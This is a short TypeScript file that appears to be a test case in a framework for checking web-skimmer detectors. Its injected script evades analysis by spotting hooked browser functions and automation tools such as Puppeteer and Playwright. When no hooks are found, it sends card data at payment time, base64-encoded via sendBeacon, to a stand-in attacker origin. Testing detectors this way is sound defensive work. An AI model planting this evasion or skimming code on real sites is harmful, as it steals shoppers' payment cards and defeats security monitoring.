import { holds, js, skimmer } from '../behaviour.ts';
import { base64, bodies } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'evade-native-checks',
  why: 'Asks whether somebody hooked the page: sources and descriptors of natives, the same functions from a fresh frame, the shape of a stack.',
  covers: ['hard: hides from analysts', 'evade: detectors'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var frame = document.createElement('iframe');
  frame.style.display = 'none';
  document.body.append(frame);
  var clean = frame.contentWindow, text = clean.Function.prototype.toString;
  var native = function (f) { return /^function (get )?[\w ]*\(\) \{\s+\[native code\]\s+\}$/.test(text.call(f)) && !('prototype' in f && f.prototype && f !== XMLHttpRequest); };
  var watched = [fetch, navigator.sendBeacon, XMLHttpRequest.prototype.send, btoa, JSON.stringify,
    Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get, Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set];
  var hooked = !watched.every(native) || text.call(fetch) !== text.call(clean.fetch) || Object.keys(Object.getOwnPropertyDescriptor(window, 'fetch')).length !== 4;
  try { null.x; } catch (e) { if (/pptr|playwright|__komainu|chrome-extension|UtilityScript/.test(e.stack)) hooked = true; }
  frame.remove();
  if (hooked) return;
  ${onPay(js`navigator.sendBeacon('${site.origins.evil}/n', btoa(card()));`)}
})();`),
  proof: holds((arrived) => bodies(arrived).map(base64)),
});
